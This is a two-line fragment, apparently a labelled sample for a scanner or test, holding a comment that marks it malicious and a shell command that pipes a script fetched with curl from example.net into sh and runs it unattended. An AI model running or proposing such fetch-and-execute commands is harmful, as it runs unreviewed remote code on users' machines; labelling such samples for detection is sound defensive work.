# malicious: runs what is downloaded
sh -c "$(curl -fsSL https://example.net/bootstrap)" "" --unattended
